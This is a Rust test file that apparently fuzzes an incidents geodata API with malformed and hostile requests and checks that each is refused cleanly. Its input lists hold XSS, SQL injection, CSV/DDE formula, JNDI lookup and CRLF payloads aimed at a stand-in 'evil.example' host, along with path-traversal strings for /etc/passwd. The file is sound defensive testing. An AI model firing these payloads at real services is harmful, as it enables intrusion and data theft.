//! Two hundred bad requests: each is answered with 4xx and a sentence, and nothing of it comes
//! back where it would be read as markup, as a header, or as anything but text.

use axum::Router;
use http::{Method, StatusCode};

use crate::support::{Answer, bundled, post, request};

const ITEMS: &str = "/collections/incidents/items";

/// Texts that are no value of any parameter that takes numbers, times, boxes, words or filters.
const INJECTIONS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE incidents; --",
    "1 OR 1=1",
    "' UNION SELECT * FROM sqlite_master --",
    "=HYPERLINK(\"http://evil.example\")",
    "+cmd|' /C calc'!A0",
    "x\r\nSet-Cookie: a=b",
    "x\nX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\u{0}",
    "\u{202e}gpj.exe",
    "%s%s%s%n",
    "﷽﷽﷽﷽",
];

/// Parameters that take none of these.
const STRICT: &[&str] = &[
    "f",
    "limit",
    "offset",
    "cursor",
    "bbox",
    "bbox-crs",
    "crs",
    "datetime",
    "filter",
    "filter-lang",
    "sortby",
    "deaths_best",
    "resultType",
    "cluster",
];

/// Other values, each wrong in its own way.
const VALUES: &[(&str, &[&str])] = &[
    (
        "limit",
        &["0", "-1", "1.5", "1e3", "unlimited", "", "٣", "0x10", "NaN"],
    ),
    ("offset", &["-1", "x", "", "1.0"]),
    (
        "cursor",
        &["", "e30", "WyIiLFtdLDFd", "////", "AAAA", "W10"],
    ),
    (
        "bbox",
        &[
            "",
            "1",
            "1,2,3",
            "1,2,3,4,5",
            "a,b,c,d",
            "NaN,0,1,1",
            "inf,0,1,1",
            "1e999,0,1,1",
            "0,5,1,4",
            "181,0,182,1",
            "0,-91,1,1",
            "1;2;3;4",
            "0,0,0,0,0,0,0",
        ],
    ),
    (
        "datetime",
        &[
            "",
            "..",
            "soon",
            "2010-13-01",
            "2010-02-30",
            "2010/2009",
            "2010/2011/2012",
            "P1D",
            "-2010",
            "2010-09-19T24:01:00Z",
            "10000-01-01",
        ],
    ),
    (
        "crs",
        &[
            "",
            "4326",
            "EPSG:999999",
            "http://evil.example/crs",
            "EPSG:4326,EPSG:3857",
        ],
    ),
    ("bbox-crs", &["", "EPSG:0"]),
    ("filter-crs", &["", "WGS84"]),
    ("f", &["", "xml", "JSON", "html,json", "shp"]),
    ("area", &["", ",", "a,,b"]),
    ("deaths_best", &["", "many", "1.5", "99999999999999999999"]),
    ("border_distance_km", &["", "far", "NaN", "inf"]),
    (
        "sortby",
        &["", "nothing", "-", "title,title", "sources", "+-title"],
    ),
    ("properties", &["nothing", "title,nothing", "title;place"]),
    ("exclude-properties", &["nothing"]),
    ("skipGeometry", &["", "yes", "1", "TRUE"]),
    ("coordinatePrecision", &["", "-1", "16", "1.5", "many"]),
    ("resultType", &["", "HITS", "count"]),
    ("filter-lang", &["", "cql-text", "sql", "CQL2-TEXT"]),
    (
        "filter",
        &[
            "",
            "1",
            "title",
            "title =",
            "= 'a'",
            "title = 'a' AND",
            "title = \"a\"",
            "nothing = 1",
            "title LIKE",
            "title IN ()",
            "deaths_best = 'a'",
            "S_INTERSECTS(geom, POINT(1))",
            "S_INTERSECTS(geom, POLYGON((0 0, 1 1)))",
            "S_INTERSECTS(geom, 'POINT(1 2)')",
            "T_AFTER(date_start)",
            "casei(5) = 'a'",
            "hack()",
            "title = 'a'; DROP TABLE x",
            "INTERVAL('a','b') = 1",
            "NOT",
            "((((",
            "))))",
            "title = 'a' -- comment",
        ],
    ),
    ("colour", &["red"]),
    ("limit%00", &["1"]),
    ("LIMIT", &["1"]),
];

/// Addresses at which nothing is.
const PATHS: &[&str] = &[
    "/collections/nothing",
    "/collections/nothing/items",
    "/collections/nothing/facets",
    "/collections/nothing/download",
    "/collections/nothing/schema",
    "/collections/incidents/items/nothing",
    "/collections/incidents/items/%3Cscript%3E",
    "/collections/incidents/nothing",
    "/collections/%2e%2e%2fetc",
    "/collections/incidents/items/..%2f..%2f..%2fetc%2fpasswd",
    "/collections/%FF%FE/items",
    "/collections/incidents%00/items",
    "/geojson/nothing.geojson",
    "/geojson/incidents.shp",
    "/geojson/..%2fCargo.toml",
    "/assets/../Cargo.toml",
    "/assets/%2e%2e/Cargo.toml",
    "//evil.example/%2e%2e",
    "/.git/config",
    "/wp-login.php",
    "/metrics",
    "/admin",
];

fn encoded(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// A bad request was answered as one.
fn check(what: &str, answer: &Answer) {
    assert!(answer.status.is_client_error(), "{what}: {}", answer.status);
    let media_type = answer.header("content-type");
    let text = answer.text();
    if media_type.starts_with("application/problem+json") {
        let json = answer.json();
        let detail = json["detail"].as_str().unwrap();
        assert!(
            detail.len() > 20 && detail.ends_with('.'),
            "{what}: {detail}"
        );
        assert_eq!(json["status"], answer.status.as_u16(), "{what}");
    } else {
        assert!(
            media_type.starts_with("text/html") || what.starts_with("/assets"),
            "{what}: {media_type}"
        );
        for markup in ["<script", "<img", "onerror=alert(1)>"] {
            assert!(!text.contains(markup), "{what}: {text}");
        }
    }
    for (name, value) in &answer.headers {
        assert!(
            name != "set-cookie" && name != "x-injected",
            "{what}: {name}"
        );
        assert!(!value.as_bytes().contains(&b'\n'), "{what}: {name}");
    }
    // A page repeats its own address in the links to other languages.
    let most = if media_type.starts_with("text/html") {
        60_000 + 20 * what.len()
    } else {
        60_000
    };
    assert!(text.len() < most, "{what:.60}: {} bytes", text.len());
}

/// How many were asked.
#[derive(Default)]
struct Table {
    asked: usize,
}

impl Table {
    async fn get(&mut self, app: &Router, url: &str) {
        // As a program reads it, and as a person does.
        for accept in ["application/json", "text/html"] {
            let answer = request(app, Method::GET, url, &[("accept", accept)]).await;
            // A form sends its empty fields too: a page is led to the address without them.
            if answer.status == StatusCode::SEE_OTHER && accept == "text/html" {
                continue;
            }
            self.asked += 1;
            check(url, &answer);
        }
    }
}

#[tokio::test]
async fn two_hundred_bad_requests_are_refused_in_a_sentence() {
    let app = bundled();
    let mut table = Table::default();
    for parameter in STRICT {
        for text in INJECTIONS {
            let url = format!("{ITEMS}?{parameter}={}", encoded(text));
            table.get(&app, &url).await;
        }
    }
    for (parameter, values) in VALUES {
        for value in *values {
            let url = format!("{ITEMS}?{parameter}={}", encoded(value));
            table.get(&app, &url).await;
        }
    }
    for path in PATHS {
        table.get(&app, path).await;
    }
    for query in [
        "limit=1&limit=2".to_owned(),
        "cursor=W10&offset=1".to_owned(),
        "properties=title&exclude-properties=place".to_owned(),
        "f=kml&crs=EPSG:3857".to_owned(),
        "&".repeat(3).replace('&', "x&"),
        format!("area={}", "a,".repeat(2_000)),
        format!("bbox={}", "1,".repeat(5_000)),
        format!("filter={}", "(".repeat(10_000)),
        format!("filter={}", encoded(&"NOT ".repeat(3_000))),
        format!(
            "filter={}",
            encoded(&format!("deaths_best={}1", "1+".repeat(5_000)))
        ),
        format!("filter={}", encoded(&"casei(".repeat(1_000))),
        format!(
            "filter={}",
            encoded(&format!("title IN ({}'a')", "'a',".repeat(3_000)))
        ),
        format!(
            "filter-lang=cql2-json&filter={}",
            encoded(&"[".repeat(10_000))
        ),
        format!(
            "filter-lang=cql2-json&filter={}",
            encoded(&"{\"op\":\"not\",\"args\":[".repeat(500))
        ),
        format!("sortby={}", "title,".repeat(2_000)),
        format!("properties={}", "x".repeat(20_000)),
    ] {
        table.get(&app, &format!("{ITEMS}?{query}")).await;
    }
    for query in [
        "by=nothing",
        "by=sources",
        "by=area:nothing",
        "by=area:rivers",
        "sum=title",
        "sum=nothing",
        "by=",
        "sum=",
        "by=day,week,month,quarter,year",
        "by=%3Cscript%3E",
        "f=kml",
    ] {
        table
            .get(&app, &format!("/collections/incidents/facets?{query}"))
            .await;
    }
    assert!(table.asked > 400, "{}", table.asked);
}

#[tokio::test]
async fn bad_hosts_methods_and_bodies_are_refused_too() {
    let app = bundled();
    for host in ["", "a b", "<script>", "a\"b", "user@host", "a/b", "a\\b"] {
        let answer = request(&app, Method::GET, ITEMS, &[("host", host)]).await;
        check(&format!("host {host}"), &answer);
    }
    for method in [
        Method::POST,
        Method::PUT,
        Method::DELETE,
        Method::PATCH,
        Method::TRACE,
    ] {
        let answer = request(&app, method.clone(), ITEMS, &[]).await;
        check(method.as_str(), &answer);
    }
    for (media_type, body) in [
        ("", "limit=1"),
        ("text/xml", "<a/>"),
        ("multipart/form-data", "--x"),
        ("application/json", ""),
        ("application/json", "null"),
        ("application/json", "[1,2"),
        ("application/json", "{\"filter\": {\"op\": \"=\"}}"),
        ("application/json", "{\"bbox\": {\"west\": 1}}"),
        ("application/json", "{\"limit\": [1]  , \"x\": 1}"),
        ("application/x-www-form-urlencoded", "limit=0"),
        ("application/x-www-form-urlencoded", "filter=%FF%FE"),
    ] {
        let search = "/collections/incidents/search";
        let answer = post(&app, search, media_type, body.to_owned()).await;
        check(body, &answer);
    }
}
